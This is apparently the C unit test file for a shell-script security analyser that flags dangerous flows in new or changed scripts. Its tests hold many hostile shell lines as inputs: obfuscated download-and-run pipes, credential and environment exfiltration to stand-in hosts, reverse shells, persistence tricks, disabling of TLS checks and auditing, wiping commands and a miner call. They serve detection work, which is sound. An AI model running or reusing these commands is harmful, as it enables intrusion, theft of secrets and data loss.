#include "member.h"

#include "util/buf.h"

/* All of it is new. */
static struct member *sh_asked(const char *old, const char *text, enum status due)
{
	struct member *m = member_make("x.sh", str_of(old), str_of(text));
	enum status status;

	member_align(m, LANGUAGE_SHELL);
	assert_int_equal(align_units(&m->in, LANGUAGE_SHELL, m->new_, m->old, &m->al, &m->spans, &m->n_spans), STATUS_OK);
	status = sh_analyse(&m->in, m->new_, 0, m->old, &m->al, m->spans, m->n_spans, m->lines);
	assert_int_equal(status, due);
	return m;
}

static struct member *sh_new(const char *old, const char *text)
{
	return sh_asked(old, text, STATUS_OK);
}

static void facts_print(const struct member *m)
{
	for (size_t i = 0; i < m->n_facts; i++)
		print_error("  %s %.*s = %.*s | %.*s\n", fact_kind_name(m->facts[i].kind), STR_ARG(m->facts[i].key),
			STR_ARG(m->facts[i].value), STR_ARG(m->facts[i].detail));
}

static void fires(const char *text, enum fact_kind kind, const char *key, const char *value)
{
	struct member *m = sh_new(NULL, text);
	bool found = false;

	for (size_t i = 0; i < m->n_facts; i++)
		found |= m->facts[i].kind == kind && str_is(m->facts[i].key, key) &&
			(!value || str_has(m->facts[i].value, value) || str_has(m->facts[i].detail, value));
	if (!found) {
		facts_print(m);
		fail_msg("no %s %s %s in: %s", fact_kind_name(kind), key, value ? value : "", text);
	}
	member_free(m);
}

static void flows(const char *text, const char *key, const char *value)
{
	fires(text, FACT_FLOW, key, value);
}

static void silent(const char *text)
{
	struct member *m = sh_new(NULL, text);

	if (m->n_facts != member_count(m, FACT_IMPORT, NULL)) { /* which only names files that it runs */
		facts_print(m);
		fail_msg("%zu facts in: %s", m->n_facts, text);
	}
	member_free(m);
}

static void no_flow(const char *text)
{
	struct member *m = sh_new(NULL, text);

	if (member_count(m, FACT_FLOW, NULL) + member_count(m, FACT_UNRESOLVED, NULL)) {
		facts_print(m);
		fail_msg("flows in: %s", text);
	}
	member_free(m);
}

static void test_download_and_run(void **state)
{
	flows("curl -fsSL https://get.agent.example/i | sh\n", "net>exec", "get.agent.example");
	flows("wget -qO- http://192.0.2.7/x | sudo bash -s -- -y\n", "net>exec", "192.0.2.7");
	flows("bash <(curl -s https://get.agent.example/i)\n", "net>exec", "get.agent.example");
	flows("bash -c \"$(curl -fsSL https://get.agent.example/i)\"\n", "net>exec", "get.agent.example");
	flows("eval \"`wget -qO - https://get.agent.example/i`\"\n", "net>exec", "get.agent.example");
	flows("x=$(curl -s https://get.agent.example/i)\neval \"$x\"\n", "net>exec", "get.agent.example");
	flows(". <(curl -s https://get.agent.example/i)\n", "net>exec", NULL);
	flows("curl -s https://get.agent.example/i | python3\n", "net>exec", NULL);
	flows("curl -s https://get.agent.example/i | while read -r l; do eval \"$l\"; done\n", "net>exec", NULL);
	flows("{ curl -s https://get.agent.example/i; } | (cd /tmp && sh)\n", "net>exec", NULL);
	/* what a text that is run writes goes on */
	flows("sh -c 'curl -s https://get.agent.example/i' | sh\n", "net>exec", "get.agent.example");
	flows("eval \"eval curl -s https://get.agent.example/i\" | sh\n", "net>exec", "get.agent.example");
	flows("x=$(bash -c 'curl -s https://get.agent.example/i')\neval \"$x\"\n", "net>exec", "get.agent.example");
	flows("get() { curl -fsSL \"$1\"; }\nget https://get.agent.example/i | sh\n", "net>exec", "get.agent.example");
	flows("curl -o /tmp/a https://get.agent.example/a\nchmod +x /tmp/a\n/tmp/a -d &\n", "net>run", "get.agent.example");
	flows("d=/tmp/.x\ncurl -s https://get.agent.example/a > $d/a && sh $d/a\n", "net>run", "get.agent.example");
	flows("wget https://get.agent.example/pkg/a.deb\ndpkg -i a.deb\n", "net>run", "a.deb");
	flows("curl -o a https://get.agent.example/a\ninstall -m 755 a /usr/local/bin/a\n", "net>run", NULL);
	flows("curl -o a https://get.agent.example/a\n", "net>file", "get.agent.example");
}

static void test_spelling(void **state)
{
	flows("a=http; b=://192.0.2.9/x; c=cu; c=${c}rl; $c $a$b|sh\n", "net>exec", "http://192.0.2.9/x");
	flows("c\\ur\\l http://192.0.2.9/x | s\\h\n", "net>exec", "192.0.2.9");
	flows("$'\\x63url' http://192.0.2.9/x | $'\\163h'\n", "net>exec", "192.0.2.9");
	flows("curl${IFS}http://192.0.2.9/x|sh\n", "net>exec", "192.0.2.9");
	flows("{curl,-s,http://192.0.2.9/x}|sh\n", "net>exec", "192.0.2.9");
	flows("x=abcsh; curl http://192.0.2.9/x | ${x:3:2}\n", "net>exec", NULL);
	flows("a=(ht tp ://192.0.2.9/x cu rl)\n${a[3]}${a[4]} ${a[0]}${a[1]}${a[2]} | sh\n", "net>exec", "http://192.0.2.9/x");
	flows("x=lruc; `echo $x | rev` http://192.0.2.9/x | sh\n", "net>exec", NULL);
	flows("h=example.test; curl \"https://${h/test/invalid}/x\" | /bin/sh\n", "net>exec", "example.invalid");
	fires("c\"u\"rl http://192.0.2.9/x\n", FACT_OBFUSCATED, "escaped-identifiers", "curl");
}

/* Files that were there before: whoever runs them decides how they are read. */
static void test_runs_files(void **state)
{
	fires(". /usr/share/thing/conf\n", FACT_IMPORT, "/usr/share/thing/conf", ".");
	fires("python3 -u lib/table.csv\n", FACT_IMPORT, "lib/table.csv", "python3");
	fires("sh ./setup\n", FACT_IMPORT, "./setup", "sh");
	(void)state;
}

static void test_decoded(void **state)
{
	/* curl http://192.0.2.9/x | sh */
	flows("echo Y3VybCBodHRwOi8vMTkyLjAuMi45L3ggfCBzaAo= | base64 -d | sh\n", "data>code", NULL);
	flows("echo Y3VybCBodHRwOi8vMTkyLjAuMi45L3ggfCBzaAo= | base64 -d | sh\n", "net>exec", "192.0.2.9");
	fires("echo Y3VybCBodHRwOi8vMTkyLjAuMi45L3ggfCBzaAo= | base64 -d | sh\n", FACT_DECODED, "base64", "curl http://192.0.2.9/x");
	flows("eval \"$(echo 6375726c20687474703a2f2f3139322e302e322e392f78207c207368 | xxd -r -p)\"\n", "net>exec", "192.0.2.9");
	flows("printf '\\x63url http://192.0.2.9/x | sh' | bash\n", "net>exec", "192.0.2.9");
	flows("echo 'phey uggc://192.0.2.9/k | fu' | tr a-z n-za-m | sh\n", "net>exec", "192.0.2.9");
	flows("x=Y3VybCBodHRwOi8vMTkyLjAuMi45L3ggfCBzaAo=\nsh -c \"$(base64 --decode <<< $x)\"\n", "net>exec", "192.0.2.9");
	flows("openssl enc -d -base64 <<EOF | sh\nY3VybCBodHRwOi8vMTkyLjAuMi45L3ggfCBzaAo=\nEOF\n", "net>exec", "192.0.2.9");
	flows("base64 -d payload.txt | sh\n", "data>code", NULL);
	fires("base64 -d payload.txt | sh\n", FACT_UNRESOLVED, "exec", NULL);
	fires("openssl enc -d -aes-256-cbc -pass pass:k -in p | bash\n", FACT_UNRESOLVED, "exec", NULL);
	/* two layers */
	fires("echo 'ZWNobyBkMmh2WVcxcENnPT0gfCBiYXNlNjQgLWQgfCBzaAo=' | base64 -d | sh\n", FACT_DECODED, "base64", "whoami");
}

static void test_leaks(void **state)
{
	flows("curl -d \"$(env)\" https://c.example/\n", "env>net", "c.example");
	flows("env | curl -X POST --data-binary @- https://c.example/\n", "env>net", "c.example");
	flows("printenv > /tmp/e; curl -F f=@/tmp/e https://c.example/\n", "env>net", "c.example");
	flows("curl https://c.example/?t=$NPM_TOKEN\n", "cred>net", "c.example");
	flows("tar czf - ~/.ssh | curl -T - https://c.example/\n", "cred>net", "c.example");
	flows("cat ~/.aws/credentials | nc 192.0.2.9 443\n", "cred>net", "192.0.2.9");
	flows("for f in ~/.npmrc ~/.netrc; do curl --data-binary @$f https://c.example/; done\n", "cred>net", NULL);
	flows("curl https://c.example/$(hostname)/$(whoami)\n", "host>net", "c.example");
	flows("x=$(uname -a | base64)\nwget --post-data=\"$x\" https://c.example/\n", "host>net", NULL);
	flows("curl --upload-file /etc/passwd https://c.example/\n", "file>net", "c.example");
	flows("cat /etc/shadow > /dev/tcp/192.0.2.9/80\n", "cred>net", "192.0.2.9");
	flows("dig $(hostname | xxd -p).x.example\n", "host>net", NULL);
	fires("cat ~/.git-credentials\n", FACT_PATH, "cred", ".git-credentials");
}

static void test_persistence(void **state)
{
	flows("echo '* * * * * root /tmp/a' > /etc/cron.d/a\n", "data>persist", "/etc/cron.d/a");
	flows("(crontab -l; echo '@reboot /tmp/a') | crontab -\n", "data>persist", "crontab");
	flows("curl -s https://c.example/k >> ~/.ssh/authorized_keys\n", "net>persist", "authorized_keys");
	flows("echo /usr/lib/a.so | sudo tee /etc/ld.so.preload\n", "data>persist", "/etc/ld.so.preload");
	flows("cp a.service /etc/systemd/system/a.service\n", "file>persist", "/etc/systemd/system/a.service");
	flows("cat <<EOF > $HOME/.config/autostart/a.desktop\n[Desktop Entry]\nExec=/tmp/a\nEOF\n", "data>persist", "autostart");
	flows("cat >> ~/.bashrc <<'X'\nalias sudo='/tmp/s'\nX\n", "data>persist", ".bashrc");
	fires("systemctl enable --now a.service\n", FACT_COMMAND, "systemctl", NULL);
}

static void test_reverse_shells(void **state)
{
	flows("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n", "net>exec", "reverse shell");
	flows("nc -e /bin/sh 192.0.2.9 4444\n", "net>exec", "reverse shell");
	flows("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 4444 > /tmp/f\n", "net>exec", "reverse shell");
	flows("socat TCP:192.0.2.9:4444 EXEC:/bin/sh\n", "net>exec", "reverse shell");
	flows("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.9\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'\n",
		"net>exec", "reverse shell");
}

static void test_trust(void **state)
{
	fires("curl -k https://c.example/a\n", FACT_TRUST, "tls-verify-off", NULL);
	fires("wget --no-check-certificate https://c.example/a\n", FACT_TRUST, "tls-verify-off", NULL);
	fires("apt-get install -y --allow-unauthenticated x\n", FACT_TRUST, "package-check-off", NULL);
	fires("setenforce 0\n", FACT_TRUST, "service-off", NULL);
	fires("systemctl stop auditd\n", FACT_TRUST, "service-off", NULL);
	fires("export NODE_TLS_REJECT_UNAUTHORIZED=0\n", FACT_TRUST, "tls-verify-off", NULL);
	fires("npm config set strict-ssl false\n", FACT_TRUST, "tls-verify-off", NULL);
	fires("gpg --import key.asc\n", FACT_TRUST, "public-key", NULL);
	fires("xattr -d com.apple.quarantine app\n", FACT_TRUST, "quarantine-off", NULL);
}

static void test_gates_hosts_flags(void **state)
{
	struct member *m;
	const struct fact *f;

	fires("if [ \"$CI\" = true ]; then :; fi\n", FACT_GATE, "ci", NULL);
	fires("[ \"$(date +%d)\" -gt 15 ] && :\n", FACT_GATE, "date", NULL);
	fires("case $LANG in ru*) exit;; esac\n", FACT_GATE, "locale", NULL);
	fires("curl -s https://dl.agent.example/a\n", FACT_HOST, "dl.agent.example", NULL);
	m = sh_new(NULL, "f() {\n  curl -s https://get.agent.example/i 2>/dev/null | sh >/dev/null 2>&1 || true\n}\nf\n");
	f = member_find(m, FACT_FLOW, "net>exec");
	assert_non_null(f);
	assert_int_equal(f->line, 2);
	assert_true(f->flags & FACT_SILENT);
	assert_false(f->flags & FACT_TOP_LEVEL);
	assert_true(f->flags & FACT_NEW_SOURCE && f->flags & FACT_NEW_SINK);
	assert_int_equal(f->number, 3);
	member_free(m);
}

/* Only one end is new. */
static void test_change(void **state)
{
	struct member *m = sh_new("set -e\nx=$(curl -s https://c.example/v)\necho \"$x\"\nmake\n",
		"set -e\nx=$(curl -s https://c.example/v)\necho \"$x\"\neval \"$x\"\nmake\n");
	const struct fact *f = member_find(m, FACT_FLOW, "net>exec");

	assert_non_null(f);
	assert_true(f->flags & FACT_NEW_SINK);
	assert_false(f->flags & FACT_NEW_SOURCE);
	assert_int_equal(f->line, 4);
	assert_int_equal(member_count(m, FACT_COMMAND, NULL), 0); /* the curl is old */
	assert_int_equal(member_count(m, FACT_HOST, NULL), 0);
	member_free(m);
	m = sh_new("curl -s https://c.example/v | sh\nmake\n", "curl -s https://c.example/v | sh\nmake -j2\n");
	assert_int_equal(m->n_facts, 0);
	member_free(m);
}

static void test_maintainer_scripts(void **state)
{
	silent("#!/bin/sh\nset -e\n. /usr/share/debconf/confmodule\ncase \"$1\" in\n  configure)\n"
		"    if ! getent passwd foo >/dev/null; then\n      adduser --system --group --home /var/lib/foo foo\n    fi\n"
		"    db_get foo/port || true\n    port=\"$RET\"\n    sed -i \"s/PORT/$port/\" /etc/foo.conf\n"
		"    update-alternatives --install /usr/bin/foo foo /usr/lib/foo/foo 50\n    ldconfig\n    dpkg-trigger ldconfig\n"
		"    chown -R foo:foo /var/lib/foo\n    chmod 750 /var/lib/foo\n    ;;\n  abort-upgrade|abort-remove) ;;\n"
		"  *) echo \"postinst called with unknown argument \\`$1'\" >&2; exit 1 ;;\nesac\n"
		"if [ \"$1\" = \"configure\" ] || [ \"$1\" = \"abort-upgrade\" ]; then\n"
		"  if deb-systemd-helper --quiet was-enabled 'foo.service'; then\n"
		"    deb-systemd-helper enable 'foo.service' >/dev/null || true\n  fi\n"
		"  if [ -d /run/systemd/system ]; then\n    systemctl --system daemon-reload >/dev/null || true\n"
		"    deb-systemd-invoke start 'foo.service' >/dev/null || true\n  fi\nfi\nexit 0\n");
	silent("#!/bin/sh\nset -e\nif [ \"$1\" = remove ] || [ \"$1\" = purge ]; then\n  rm -rf /var/lib/foo\n"
		"  py3clean -p foo\n  userdel foo || true\nfi\nfor i in /etc/foo.d/*.conf; do\n  [ -e \"$i\" ] || continue\n"
		"  rm -f \"$i\"\ndone\n");
	silent("if test -x /usr/bin/update-menus; then update-menus; fi\ndb_input high foo/bar || true\ndb_go || true\n"
		"invoke-rc.d foo restart || exit $?\nudevadm trigger\nglib-compile-schemas /usr/share/glib-2.0/schemas\n");
}

static void test_ordinary_scripts(void **state)
{
	silent("ac_cv_prog_cc=$CC\nac_cmd='$CC -c conftest.c >&5'\neval \"$ac_cmd\" && :\n"
		"eval ac_val=\\$$ac_var\neval \"test \\\"\\${$ac_var+set}\\\" = set\"\n{ { eval echo \"\\\"\\$as_me\\\"\"; } >&5\n"
		"(eval \"$ac_link\") 2>&5\ncat >conftest.c <<_ACEOF\nint main(){return 0;}\n_ACEOF\n"
		"as_fn_exit () {\n  set +e\n  exit $1\n}\nif (eval \"test x\") 2>/dev/null; then :; fi\n");
	silent("#!/bin/sh\nset -eu\ncd \"$(dirname \"$0\")\"\nexport PATH=\"$PWD/bin:$PATH\"\nVERSION=$(cat VERSION)\n"
		"if [ \"$(uname -s)\" = Darwin ]; then sed -i '' s/a/b/ x; fi\nexec ./bin/app \"$@\"\n");
	silent("#!/usr/bin/env bash\nset -euo pipefail\nnode --check x.js\nnpm ci --ignore-scripts\nnpm test\n"
		"tar czf out.tgz dist\necho \"see https://docs.example/\"\nid -u\n[ \"$(id -u)\" -eq 0 ] || exit 1\n");
	silent("hash_of() { sha256sum \"$1\" | cut -d' ' -f1; }\nbase64 -w0 < logo.png > logo.b64\nx=$(echo aGk= | base64 -d)\n"
		"echo \"$x\" > hi.txt\n");
	no_flow("curl -s -H \"Accept: text/plain\" https://c.example/status\n");
	no_flow("curl -X POST -d 'done=1' https://c.example/hook\n");
	no_flow("wget -O - https://c.example/v | grep -o '[0-9.]*'\n");
	no_flow("sh -c 'curl -s https://c.example/list' | grep -c v1\neval \"x=1\" | sh\n");
	no_flow("eval \"$(ssh-agent -s)\"\neval \"$(dircolors)\"\n");
	no_flow("python3 - <<'EOF'\nprint(1)\nEOF\n");
	no_flow("git clone https://git.example/x && cd x && make && sudo make install\n");
}

/* A pinned release with its checksum is still a download that is run, and says that it was checked. */
static void test_verified_download(void **state)
{
	struct member *m = sh_new(NULL, "v=1.2.3\ncurl -fsSLo app.tgz https://dl.agent.example/$v/app\n"
		"echo \"$SUM  app.tgz\" | sha256sum -c -\nchmod +x app.tgz\n./app.tgz install\n");
	const struct fact *f = member_find(m, FACT_FLOW, "net>run");

	assert_non_null(f);
	assert_true(str_has(f->detail, "after sha256sum"));
	member_free(m);
}

static void test_grammar(void **state)
{
	struct member *m = sh_new("set -e\nmake\n", "set -e\nmake\nif then fi (( ;; esac\n");

	assert_int_equal(member_count(m, FACT_PARSE_ERROR, NULL), 1);
	member_free(m);
	m = sh_new("set -e\nmake\n", "set -e\nmake\nif true; then make x; fi\n");
	assert_int_equal(member_count(m, FACT_PARSE_ERROR, NULL), 0);
	member_free(m);
}

/* Steps, not seconds: nothing here grows faster than its input. */
static void test_hostile(void **state)
{
	static const char *const pieces[] = {"a=$a$a;", "$(", "`", "${a:-", "((", "\"$(", "{ ", "<<E\n", "x='", "a | ", "eval ",
		"case x in ", "f() {", "<(", "$((", "\\\n", "for i in ", "${!a}", "if "};

	for (size_t i = 0; i < sizeof(pieces) / sizeof(pieces[0]); i++) {
		uint64_t steps[2];

		for (int k = 0; k < 2; k++) {
			struct member *m;
			struct buf b;

			buf_init(&b, 1 << 20);
			for (int j = 0; j < 8000 << k; j++)
				buf_add_z(&b, pieces[i]);
			m = member_make("x.sh", STR_NONE, buf_str(&b));
			member_align(m, LANGUAGE_SHELL);
			(void)sh_analyse(&m->in, m->new_, 0, m->old, &m->al, NULL, 0, m->lines);
			steps[k] = m->budget.steps;
			member_free(m);
			buf_release(&b);
		}
		if (steps[1] * 10 > steps[0] * 26)
			fail_msg("\"%s\": %llu then %llu steps", pieces[i], (unsigned long long)steps[0], (unsigned long long)steps[1]);
	}
}

static void test_what_destroys(void **state)
{
	(void)state;
	fires("rm -rf /home/* /var/backups\n", FACT_WIPE, "rm", NULL);
	fires("find / -name '*.db' -exec shred -u {} +\n", FACT_WIPE, "find", NULL);
	silent("rm -rf /var/lib/thing /tmp/thing\n");
}

static void test_packed_programs(void **state)
{
	(void)state;
	flows("eval `sed -n 1,9p /usr/share/doc/x/a.xz | tr ab ba | xz -dc | head -c 900`\n", "data>code", "xz");
	fires("/usr/lib/x/d --url=pool.vendor.example:443 --user=0x52908400098527886E0F7030069857D2E4169EE7 &\n", FACT_STRING, "wallet-address", NULL);
}

/* Commands that lie deeper than we follow are not known, unless they were there before. */
static void test_too_deep(void **state)
{
	static const char *const open[] = {"$( ", "${x:-"}, *const close[] = {" )", "}"}, *const inside[] = {"curl https://c.example/x | sh", "$(curl https://c.example/x | sh)"};
	struct buf old, b;

	(void)state;
	for (size_t k = 0; k < 2; k++)
		for (unsigned deep = 3; deep <= 60; deep += 57) {
			buf_init(&b, 1 << 12);
			buf_add_z(&b, "echo ");
			for (unsigned i = 0; i < deep; i++)
				buf_add_z(&b, open[k]);
			buf_add_z(&b, inside[k]);
			for (unsigned i = 0; i < deep; i++)
				buf_add_z(&b, close[k]);
			buf_add(&b, "\n", 2);
			member_free(sh_asked(NULL, buf_str(&b).p, deep > 3 ? STATUS_LIMIT : STATUS_OK));
			buf_init(&old, 1 << 12);
			buf_add_str(&old, str_part(buf_str(&b), 0, b.len - 1));
			buf_add(&old, "true\n", 6);
			if (k == 0)
				member_free(sh_asked(buf_str(&b).p, buf_str(&old).p, STATUS_OK));
			buf_release(&old);
			buf_release(&b);
		}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_too_deep),
		cmocka_unit_test(test_download_and_run),
		cmocka_unit_test(test_spelling),
		cmocka_unit_test(test_runs_files),
		cmocka_unit_test(test_decoded),
		cmocka_unit_test(test_leaks),
		cmocka_unit_test(test_persistence),
		cmocka_unit_test(test_reverse_shells),
		cmocka_unit_test(test_trust),
		cmocka_unit_test(test_gates_hosts_flags),
		cmocka_unit_test(test_change),
		cmocka_unit_test(test_maintainer_scripts),
		cmocka_unit_test(test_ordinary_scripts),
		cmocka_unit_test(test_verified_download),
		cmocka_unit_test(test_grammar),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_what_destroys),
		cmocka_unit_test(test_packed_programs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
